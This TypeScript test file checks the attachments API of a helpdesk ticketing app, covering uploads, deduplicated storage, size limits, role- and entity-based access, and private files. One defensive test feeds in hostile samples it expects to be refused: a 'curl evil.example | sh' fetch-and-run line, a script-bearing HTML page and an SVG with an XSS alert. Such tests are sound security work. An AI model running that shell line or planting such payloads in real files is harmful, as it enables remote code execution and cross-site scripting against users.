import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type TestApp, createTestApp, makeEntity, signedInUser } from "../../../../test/app.js";
import { DIALECTS } from "../../../../test/db.js";
import { makePng } from "../../../../test/file-samples.js";
import { VIGIE_VERSION } from "../../../shared/domain/version.js";
import { buildApp } from "../../app.js";

type Part = { name: string; content: Buffer | string };
type User = { user: { id: number }; cookie: string };

const LIMIT = 200_000;

/** A real multipart/form-data body, encoded by the platform's own FormData. */
async function multipart(files: Part[], fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const file of files) form.append("file", new Blob([file.content]), file.name);
  const encoded = new Response(form);
  return { payload: Buffer.from(await encoded.arrayBuffer()), contentType: encoded.headers.get("content-type") as string };
}

/** Every file under the store, tmp/ included: what a refused upload must not leave behind. */
async function storedFiles(dir: string): Promise<string[]> {
  const entries = await fs.readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

describe.each(DIALECTS)("attachments API on %s", (dialect) => {
  let t: TestApp;
  let app: FastifyInstance;
  let filesDir: string;
  let tech: User;
  let requester: User;
  let otherRequester: User;
  let otherTech: User;
  let ticketId: number;
  let otherRequesterTicket: number;

  beforeAll(async () => {
    t = await createTestApp(dialect);
    filesDir = await fs.mkdtemp(path.join(os.tmpdir(), "vigie-files-"));
    app = await buildApp({ db: t.db, config: { sessionHours: 12, secureCookies: false, timeZone: "Europe/Paris",
      version: VIGIE_VERSION, filesDir, maxUploadBytes: LIMIT } });
    const lyon = (await makeEntity(t.db, t.rootId, "Lyon")).id;
    const nantes = (await makeEntity(t.db, t.rootId, "Nantes")).id;
    tech = await signedInUser(t, { entityId: lyon, role: "technician" });
    requester = await signedInUser(t, { entityId: lyon, role: "requester" });
    otherRequester = await signedInUser(t, { entityId: lyon, role: "requester" });
    otherTech = await signedInUser(t, { entityId: nantes, role: "technician" });
    const open = async (requesterId: number) => (await app.inject({ method: "POST", url: "/api/tickets", headers: { cookie: tech.cookie },
      payload: { title: "Écran noir au poste 12", requesterId } })).json().id as number;
    ticketId = await open(requester.user.id);
    otherRequesterTicket = await open(otherRequester.user.id);
  });
  afterAll(async () => {
    await app.close();
    await t.close();
    await fs.rm(filesDir, { recursive: true, force: true });
  });

  async function upload(who: User, ticket: number, files: Part[], fields: Record<string, string> = {}) {
    const { payload, contentType } = await multipart(files, fields);
    return app.inject({ method: "POST", url: `/api/tickets/${ticket}/attachments`, payload,
      headers: { cookie: who.cookie, "content-type": contentType, "x-vigie-upload": "1" } });
  }
  const get = (who: User, url: string) => app.inject({ method: "GET", url, headers: { cookie: who.cookie } });
  const rowCount = async () => (await t.db.selectFrom("attachment").select("id").execute()).length;

  it("uploads a PNG, lists it and gives the same bytes back with safe headers", async () => {
    const png = makePng(16, 9);
    const res = await upload(tech, ticketId, [{ name: "Capture d'écran.png", content: png }]);
    expect(res.statusCode).toBe(201);
    const [attachment] = res.json().data;
    expect(attachment).toMatchObject({ ticketId, fileName: "Capture d'écran.png", contentType: "image/png", size: png.length,
      isImage: true, isPrivate: false, uploadedById: tech.user.id, canDelete: true });

    const list = await get(requester, `/api/tickets/${ticketId}/attachments`);
    expect(list.json()).toMatchObject({ data: [{ id: attachment.id, canDelete: false }], nextCursor: null, maxBytes: LIMIT });

    const download = await get(requester, `/api/attachments/${attachment.id}`);
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.equals(png)).toBe(true);
    expect(download.headers).toMatchObject({ "content-type": "image/png", "x-content-type-options": "nosniff",
      "content-disposition": "attachment; filename=\"Capture d'ecran.png\"; filename*=UTF-8''Capture%20d%27%C3%A9cran.png" });
    expect(download.headers["content-security-policy"]).toMatch(/^sandbox;/);
    const inline = await get(requester, `/api/attachments/${attachment.id}?inline=1`);
    expect(inline.headers["content-disposition"]).toMatch(/^inline;/);

    const history = (await get(tech, `/api/history/ticket/${ticketId}`)).json();
    expect(history.data[0]).toMatchObject({ action: "link", field: "attachment", newValue: "Capture d'écran.png" });
  });

  it("stores the file once under its hash, and keeps it while another attachment uses it", async () => {
    const png = makePng(5, 5, [200, 10, 10]);
    const first = (await upload(tech, ticketId, [{ name: "a.png", content: png }])).json().data[0];
    const second = (await upload(requester, ticketId, [{ name: "b.png", content: png }])).json().data[0];
    const stored = await storedFiles(filesDir);
    const row = await t.db.selectFrom("attachment").select("storage_key").where("id", "=", first.id).executeTakeFirstOrThrow();
    const file = path.join(filesDir, row.storage_key);
    expect(row.storage_key).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{64}$/);
    expect(stored).toContain(file);
    expect((await fs.readFile(file)).equals(png)).toBe(true);

    expect((await app.inject({ method: "DELETE", url: `/api/attachments/${first.id}`, headers: { cookie: tech.cookie } })).statusCode).toBe(204);
    expect((await fs.readFile(file)).equals(png)).toBe(true);
    expect((await get(requester, `/api/attachments/${second.id}`)).rawPayload.equals(png)).toBe(true);
    expect((await app.inject({ method: "DELETE", url: `/api/attachments/${second.id}`, headers: { cookie: requester.cookie } })).statusCode).toBe(204);
    await expect(fs.access(file)).rejects.toThrow();
    const history = (await get(tech, `/api/history/ticket/${ticketId}`)).json();
    expect(history.data[0]).toMatchObject({ action: "unlink", field: "attachment", oldValue: "b.png" });
  });

  it("refuses a page or a script disguised as an image with 415, and stores nothing", async () => {
    const before = await rowCount();
    const filesBefore = await storedFiles(filesDir);
    for (const content of ["<html><body><script>fetch('/api/users')</script></body></html>", "#!/bin/sh\ncurl evil.example | sh\n",
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>']) {
      const res = await upload(tech, ticketId, [{ name: "capture.png", content }]);
      expect(res.statusCode).toBe(415);
      expect(res.json().error.code).toBe("FILE_TYPE_REFUSED");
    }
    // One bad file refuses the whole upload, the good one with it.
    const mixed = await upload(tech, ticketId, [{ name: "ok.png", content: makePng() }, { name: "page.png", content: "<html></html>" }]);
    expect(mixed.statusCode).toBe(415);
    expect(await rowCount()).toBe(before);
    expect(await storedFiles(filesDir)).toEqual(filesBefore);
  });

  it("refuses a file over the limit with 413, and nothing is stored", async () => {
    const before = await rowCount();
    const filesBefore = await storedFiles(filesDir);
    const big = Buffer.concat([makePng(), Buffer.alloc(LIMIT)]);
    const res = await upload(tech, ticketId, [{ name: "énorme.png", content: big }]);
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toMatchObject({ code: "FILE_TOO_LARGE", issues: [{ path: "body.file", maximum: LIMIT }] });
    expect(await rowCount()).toBe(before);
    expect(await storedFiles(filesDir)).toEqual(filesBefore);
  });

  it("lets a requester attach to their own ticket only, never privately", async () => {
    const own = await upload(requester, ticketId, [{ name: "erreur.txt", content: "Code erreur 0x80070005\n" }], { isPrivate: "true" });
    expect(own.statusCode).toBe(201);
    expect(own.json().data[0]).toMatchObject({ isPrivate: false, contentType: "text/plain; charset=utf-8", canDelete: true });
    const theirs = await upload(requester, otherRequesterTicket, [{ name: "x.png", content: makePng() }]);
    expect(theirs.statusCode).toBe(403);
    expect((await get(requester, `/api/tickets/${otherRequesterTicket}/attachments`)).statusCode).toBe(403);
  });

  it("hides private files from the requester, and lets only the uploader or staff delete", async () => {
    const secret = (await upload(tech, ticketId, [{ name: "mot-de-passe-wifi.png", content: makePng(2, 2) }], { isPrivate: "true" })).json().data[0];
    expect(secret.isPrivate).toBe(true);
    const seen = (await get(requester, `/api/tickets/${ticketId}/attachments`)).json().data.map((a: { id: number }) => a.id);
    expect(seen).not.toContain(secret.id);
    expect((await get(tech, `/api/tickets/${ticketId}/attachments`)).json().data.map((a: { id: number }) => a.id)).toContain(secret.id);
    const download = await get(requester, `/api/attachments/${secret.id}`);
    expect(download.statusCode).toBe(404);
    expect(download.body).not.toContain("mot-de-passe");

    const techFile = (await upload(tech, ticketId, [{ name: "procédure.pdf", content: "%PDF-1.4\n%%EOF\n" }])).json().data[0];
    const denied = await app.inject({ method: "DELETE", url: `/api/attachments/${techFile.id}`, headers: { cookie: requester.cookie } });
    expect(denied.statusCode).toBe(403);
  });

  it("attaches files to a followup: a private note's files are private, and a requester cannot use it", async () => {
    const note = (await app.inject({ method: "POST", url: `/api/tickets/${ticketId}/followups`, headers: { cookie: tech.cookie },
      payload: { content: "<p>Journal du serveur joint</p>", isPrivate: true } })).json();
    const res = await upload(tech, ticketId, [{ name: "serveur.log", content: "erreur disque\n" }], { followupId: String(note.id) });
    expect(res.json().data[0]).toMatchObject({ followupId: note.id, isPrivate: true });
    const requesters = await upload(requester, ticketId, [{ name: "a.txt", content: "x\n" }], { followupId: String(note.id) });
    expect(requesters.statusCode).toBe(400);
    expect(requesters.json().error.issues[0].path).toBe("body.followupId");
  });

  it("answers 403 to a technician of another entity, and leaks nothing", async () => {
    const file = (await upload(tech, ticketId, [{ name: "facture-confidentielle.pdf", content: "%PDF-1.4\n%%EOF\n" }])).json().data[0];
    for (const res of [
      await get(otherTech, `/api/tickets/${ticketId}/attachments`),
      await get(otherTech, `/api/attachments/${file.id}`),
      await app.inject({ method: "DELETE", url: `/api/attachments/${file.id}`, headers: { cookie: otherTech.cookie } }),
      await upload(otherTech, ticketId, [{ name: "x.png", content: makePng() }]),
    ]) {
      expect(res.statusCode).toBe(403);
      expect(res.body).not.toContain("facture");
    }
    expect((await get(tech, `/api/attachments/${file.id}`)).statusCode).toBe(200);
  });

  it("refuses forms a browser session did not send on purpose, cut short, or sent to other routes", async () => {
    const { payload, contentType } = await multipart([{ name: "x.png", content: makePng() }]);
    const noHeader = await app.inject({ method: "POST", url: `/api/tickets/${ticketId}/attachments`, payload,
      headers: { cookie: tech.cookie, "content-type": contentType } });
    expect(noHeader.statusCode).toBe(403);
    const json = await app.inject({ method: "POST", url: `/api/tickets/${ticketId}/attachments`, payload: { file: "x" },
      headers: { cookie: tech.cookie, "x-vigie-upload": "1" } });
    expect(json.statusCode).toBe(415);
    const cut = await app.inject({ method: "POST", url: `/api/tickets/${ticketId}/attachments`,
      payload: '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nabc',
      headers: { cookie: tech.cookie, "content-type": "multipart/form-data; boundary=b", "x-vigie-upload": "1" } });
    expect(cut.json().error.code).toBe("BAD_REQUEST");
    const elsewhere = await app.inject({ method: "POST", url: `/api/tickets/${ticketId}/followups`, payload,
      headers: { cookie: tech.cookie, "content-type": contentType } });
    expect(elsewhere.statusCode).toBe(415);
  });
});
